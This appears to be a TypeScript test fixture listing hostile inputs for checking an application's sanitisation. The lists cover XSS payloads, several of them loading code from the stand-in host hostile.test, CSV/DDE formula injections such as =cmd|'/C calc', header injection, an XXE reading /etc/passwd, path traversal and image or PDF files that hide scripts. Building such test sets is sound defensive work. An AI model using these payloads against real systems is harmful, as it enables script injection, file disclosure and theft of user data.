/**
 * What attackers type into fields, after the lists of OWASP (XSS filter evasion, CSV injection) and PayloadsAllTheThings.
 * A script that runs calls `__hit`; markup that is parsed as such leaves an element with `data-hostile`.
 */
export const HOSTILE_HOST = "hostile.test";

const elements = [
  "<script data-hostile>__hit()</script>",
  "<script data-hostile src=//hostile.test/x.js></script>",
  "<img data-hostile src=x onerror=__hit()>",
  "<img data-hostile src=//hostile.test/p.png>",
  "<svg data-hostile onload=__hit()>",
  "<svg data-hostile><animate onbegin=__hit() attributeName=x></svg>",
  '<iframe data-hostile srcdoc="<script>parent.__hit()</script>"></iframe>',
  "<iframe data-hostile src=javascript:parent.__hit()></iframe>",
  "<object data-hostile data=//hostile.test/x.swf></object>",
  "<details data-hostile open ontoggle=__hit()>x</details>",
  "<input data-hostile autofocus onfocus=__hit()>",
  "<video data-hostile><source onerror=__hit()></video>",
  "<body data-hostile onload=__hit()>",
  "<a data-hostile href=javascript:__hit()>Voir</a>",
  "<form data-hostile action=//hostile.test><button>OK</button></form>",
  '<meta data-hostile http-equiv=refresh content="0;url=//hostile.test">',
  "<base data-hostile href=//hostile.test/>",
  "<link data-hostile rel=stylesheet href=//hostile.test/x.css>",
  '<style data-hostile>@import"//hostile.test/x.css"</style>',
  '<template data-hostile shadowrootmode="open"><img src=x onerror=__hit()></template>',
  "<IMG DATA-HOSTILE SRC=x OnErRoR=__hit()>",
  "<img/data-hostile/src=x/onerror=__hit()>",
  "<b data-hostile>",
];

const outOfContext = [
  '"><img data-hostile src=x onerror=__hit()>',
  "'><img data-hostile src=x onerror=__hit()>",
  '" data-hostile autofocus onfocus=__hit() x="',
  "' data-hostile onmouseover=__hit() x='",
  "` data-hostile onload=__hit() `",
  "</script><script data-hostile>__hit()</script>",
  "</title><svg data-hostile onload=__hit()>",
  "</textarea><svg data-hostile onload=__hit()>",
  "</style><svg data-hostile onload=__hit()>",
  "--><svg data-hostile onload=__hit()>",
  "]]><svg data-hostile onload=__hit()>",
  '<noscript><p title="</noscript><img data-hostile src=x onerror=__hit()>">',
  "<math><mtext><table><mglyph><style><img data-hostile src=x onerror=__hit()>",
  '"data-hostile="',
];

const encoded = [
  "&lt;img data-hostile src=x onerror=__hit()&gt;",
  "&#60;img data-hostile src=x onerror=__hit()&#62;",
  "%3Cimg data-hostile src=x onerror=__hit()%3E",
  "\\u003cimg data-hostile src=x onerror=__hit()\\u003e",
  "\\x3cscript data-hostile\\x3e__hit()\\x3c/script\\x3e",
  "+ADw-script data-hostile+AD4-__hit()+ADw-/script+AD4-",
  "\uff1cscript data-hostile\uff1e__hit()\uff1c/script\uff1e",
];

const codes = [
  "javascript:__hit()",
  "JaVaScRiPt:__hit()//",
  "java\tscript:__hit()",
  "data:text/html,<script>__hit()</script>",
  "//hostile.test/x",
  "';__hit();//",
  '\\";__hit();//',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as an attacker types it.
  "${__hit()}",
  "{{constructor.constructor('__hit()')()}}",
  "<%= __hit() %>",
  "\u2028__hit()\u2029",
  "__proto__",
  "constructor",
];

const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  '=HYPERLINK("https://hostile.test","Voir")',
  "=cmd|'/C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '";=1+1;"',
];

const otherFormats = [
  "x\r\nSet-Cookie: hostile=1",
  "x\nBcc: x@hostile.test",
  "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:hostile",
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x data-hostile>&e;</x>',
  '<?xml-stylesheet href="javascript:__hit()"?>',
  '"; filename="hostile.html',
  "../../../etc/passwd",
  "facture\u202egnp.exe",
  "a\u0300\u0301\u0302\u0303\u0304".repeat(8),
  "x".repeat(200),
  "<i>\"'&",
];

export const hostileStrings: readonly string[] = [
  ...elements,
  ...outOfContext,
  ...encoded,
  ...codes,
  ...formulas,
  ...otherFormats,
];

const html = "<!doctype html><html><body data-hostile><script>__hit()</script></body></html>";
const svg =
  '<svg xmlns="http://www.w3.org/2000/svg" data-hostile="" onload="__hit()"><script>__hit()</script></svg>';
const scriptedPdf = `%PDF-1.4
1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>>> endobj
2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>> endobj
trailer <</Root 1 0 R>>
%%EOF`;

/** Named by what they pretend to be. */
export const hostileFiles = [
  { kind: "photos", type: "image/png", content: html },
  { kind: "photos", type: "image/jpeg", content: svg },
  { kind: "photos", type: "image/gif", content: `GIF89a/*${html}*/=1;__hit()` },
  { kind: "plans", type: "application/pdf", content: `%PDF-1.4\n${html}` },
  { kind: "documents", type: "application/pdf", content: html },
  { kind: "documents", type: "application/pdf", content: scriptedPdf },
] as const;
